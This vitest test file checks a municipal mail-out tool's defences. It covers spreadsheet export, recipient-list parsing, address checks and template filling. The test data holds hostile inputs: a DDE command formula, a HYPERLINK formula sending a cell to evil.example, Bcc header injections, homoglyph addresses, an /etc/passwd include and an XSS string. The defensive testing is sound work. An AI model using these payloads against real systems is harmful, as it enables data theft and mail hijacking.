import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { readRecipients } from '../../src/jobs/read-recipients.ts';
import { composeMail } from '../../src/mail-out/compose-mail.ts';
import { type EnvelopeSettings, envelopeFor } from '../../src/mail-out/envelope-for.ts';
import { fillTemplate } from '../../src/mail-out/fill-template.ts';
import { strictRecipient } from '../../src/mail-out/strict-recipient.ts';
import { findMunicipality } from '../../src/register/municipalities.ts';
import { csvLine, plainCell, xlsxCell } from '../../src/rules/export/table-cell.ts';
import { badMailRegister } from '../worlds/bad-mail.ts';

describe('80: a cell that a spreadsheet would run', () => {
  const dangerous = [
    "=cmd|' /C calc'!A1",
    '+1+cmd',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '\n',
    ' =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u0000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '=HYPERLINK("http://evil.example?"&A1;"Klikk")',
  ];
  test.each(dangerous)('%j is written as text, in CSV and in XLSX', text => {
    expect(plainCell(text)).toMatch(/^'/);
    expect(csvLine([text])).toMatch(/^"'/);
    expect(xlsxCell('A1', text)).toMatch(/^<c r="A1" t="inlineStr"><is><t xml:space="preserve">'/);
    expect(xlsxCell('A1', text)).not.toContain('<f>');
  });

  test.each(['Hitra', 'Å svare', "O'Hara", '14 133', 'a=b', '10–12', '', '(nei)', '«ja»', '🎉'])(
    '%j stays as it is',
    text => {
      expect(plainCell(text)).toBe(text);
      expect(parse(csvLine([text, 7]), { delimiter: ';' })).toEqual([[text, '7']]);
    },
  );

  test('quotes, separators and line breaks stay in their cell, and a number stays a number', () => {
    const cells = ['a";"b', 'to\r\nlinjer', 'x;y', -12.5, null];
    expect(parse(csvLine(cells), { delimiter: ';' })).toEqual([['a";"b', 'to\nlinjer', 'x;y', '-12,5', '']]);
    expect(xlsxCell('B2', -12.5)).toBe('<c r="B2"><v>-12.5</v></c>');
  });

  test('what no XML may hold is left out, and what is markup is text', () => {
    expect(xlsxCell('A1', 'a\u0000\u001b\ud800b</t><f>1</f>&')).toBe(
      '<c r="A1" t="inlineStr"><is><t xml:space="preserve">ab&lt;/t&gt;&lt;f&gt;1&lt;/f&gt;&amp;</t></is></c>',
    );
    expect(plainCell('x'.repeat(1_000_000))).toHaveLength(32_767);
  });
});

describe('81: a list of recipients', () => {
  const register = badMailRegister();
  const read = (content: string | Uint8Array) =>
    readRecipients({
      bytes: Buffer.from(content),
      fileName: 'mottakere.csv',
      resolve: (name, date) => findMunicipality(register, name, date),
      date: '2013-11-28',
    });
  const HITRA = 'postmottak@hitra.kommune.example';
  const oneRow = [{ municipality: 'Hitra', contacts: [{ role: 'postmottak', name: '', address: HITRA }], line: 2 }];

  test.each([
    ['with semicolons', `kommune;e-post\nHitra;${HITRA}\n`],
    ['with commas', `kommune,e-post\nHitra,${HITRA}\n`],
    ['with tabs', `kommune\te-post\nHitra\t${HITRA}\n`],
    ['with a byte order mark', `\ufeffkommune;e-post\r\nHitra;${HITRA}\r\n`],
    ['with blanks around the cells', `kommune ; e-post \n Hitra ; ${HITRA} \n`],
  ])('%s is read', (_, text) => {
    expect(read(text)).toMatchObject({ recipients: oneRow });
  });

  test('in latin-1 is read, with a word about it', () => {
    const got = read(Buffer.from(`kommune;e-post\nSør-Trøndelag;post@fylke.example\n`, 'latin1'));
    expect(JSON.stringify(got)).toContain('Windows-1252');
    expect(JSON.stringify(got)).not.toContain('\ufffd');
  });

  test('with 0301 as 301 is read as Oslo, with a warning', () => {
    const got = read('kommunenr;e-post\n301;postmottak@oslo.kommune.example\n');
    expect(got).toMatchObject({
      recipients: [{ municipality: 'Oslo' }],
      warnings: [{ line: 2, found: '«301»', whatToDo: expect.stringContaining('0301 Oslo') }],
    });
  });

  test.each([
    ['quotes left open', `kommune;e-post\n"Hitra;${HITRA}\n`, 2],
    ['one municipality twice', `kommune;e-post\nHitra;${HITRA}\nHitra;x@hitra.kommune.example\n`, 3],
    ['one number twice', `kommunenr;e-post\n1617;${HITRA}\n1617;x@hitra.kommune.example\n`, 3],
    ['a blank in an address', 'kommune;e-post\nHitra;post mottak@hitra.kommune.example\n', 2],
    ['a comment in an address', 'kommune;e-post\nHitra;post(nytt)@hitra.kommune.example\n', 2],
    ['two addresses in a cell', `kommune;e-post\nHitra;"${HITRA}, x@hitra.kommune.example"\n`, 2],
    ['a name beside the address', `kommune;e-post\nHitra;Kari <${HITRA}>\n`, 2],
    ['a line break in an address', `kommune;e-post\nHitra;"${HITRA}\nBcc: x@evil.example"\n`, 2],
    ['a formula for a municipality', `kommune;e-post\n=1+1;${HITRA}\n`, 2],
    ['more cells than headings', `kommune;e-post\nHitra;${HITRA};x;y\n`, 2],
  ])('with %s: nothing is taken in, and the line is told', (_, text, line) => {
    const got = read(`${text}Malvik;postmottak@malvik.kommune.example\n`);
    expect(got).toHaveProperty('faults');
    expect(got).not.toHaveProperty('recipients');
    if ('faults' in got) expect(got.faults[0]).toMatchObject({ line, whatToDo: expect.stringMatching(/\.$/) });
  });
});

describe('82: a recipient in disguise', () => {
  test.each([
    'post@kommune.no(comment)evil.com',
    '"a@evil.com x"@kommune.example',
    'post@kоmmune.example',
    'post@xn--rland-uua.example',
    'a@b.example,c@d.example',
    'post@hitra.example\r\nBcc: x@evil.example',
    'gruppe: a@b.example, c@d.example;',
  ])('%j gets no letter, whatever the list of domains says', async address => {
    expect(strictRecipient(address)).toHaveProperty('refused');
    const settings: EnvelopeSettings = { sending: 'live', redirectAllTo: null, allowDomains: [], witness: null };
    const envelope = envelopeFor({ to: [{ name: '', address }], cc: [] }, settings);
    expect(envelope).toMatchObject({ to: [], recipients: [], refused: [{ address }] });
    const facts = {
      references: [],
      sender: { name: 'Eva', unit: '', address: 'eva@ks.example' },
      replyTo: 'eva@ks.example',
    };
    const letter = {
      ...facts,
      to: [{ name: '', address }],
      cc: [],
      messageId: '<a@ks.example>',
      datedAt: '2013-11-28T08:00:00Z',
    };
    // Even who forgets to ask gets no mail made.
    await expect(
      composeMail(letter as never, { subject: 'x', text: 'x', html: 'x' } as never, [], { loopId: 'x' }),
    ).rejects.toThrow('strict address');
  });

  test('a domain that only ends like an allowed one is refused', () => {
    const settings: EnvelopeSettings = {
      sending: 'live',
      redirectAllTo: null,
      allowDomains: ['ks.example'],
      witness: null,
    };
    const to = ['a@falske-ks.example', 'b@ks.example.evil.example', 'c@post.ks.example'].map(address => ({
      name: '',
      address,
    }));
    expect(envelopeFor({ to, cc: [] }, settings).recipients).toEqual(['c@post.ks.example']);
  });
});

describe('83: a value in a template', () => {
  test.each([
    ['<mj-include path="/etc/passwd">', '&lt;mj-include path=&quot;/etc/passwd&quot;&gt;'],
    ['</mj-text><mj-raw>', '&lt;/mj-text&gt;&lt;mj-raw&gt;'],
    ['{{subject}}', '&#123;&#123;subject&#125;&#125;'],
    ['$& $1 $`', '$&amp; $1 $`'],
    ["<img src=x onerror='a'>", '&lt;img src=x onerror=&#39;a&#39;&gt;'],
    ['<!--each:rows-->x<!--/each:rows-->', '&lt;!--each:rows--&gt;x&lt;!--/each:rows--&gt;'],
  ])('%s is text', (value, written) => {
    expect(fillTemplate('<p>{{text}}</p>', { text: value })).toBe(`<p>${written}</p>`);
  });

  test('a line break in a subject, a name or a file name makes no header', async () => {
    const facts = {
      references: [],
      sender: { name: 'Eva\r\nBcc: x@evil.example', unit: '', address: 'eva@ks.example' },
      replyTo: 'eva@ks.example',
      to: [{ name: 'Hitra\r\nBcc: x@evil.example', address: 'postmottak@hitra.kommune.example' }],
      cc: [],
      messageId: '<a@ks.example>',
      datedAt: '2013-11-28T08:00:00Z',
    };
    const written = { subject: 'Svar\r\nBcc: x@evil.example', text: 'x\rBcc: x', html: '<p>x</p>' };
    const file = { name: 'a\r\nBcc: x.pdf', contentType: 'application/pdf\r\nBcc: x', bytes: Buffer.from('x') };
    const { bytes } = await composeMail(facts as never, written as never, [file], { loopId: 'x\r\nBcc: y' });
    const raw = Buffer.from(bytes).toString('latin1');
    expect(raw).not.toMatch(/^Bcc:/im);
    expect(raw.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });
});
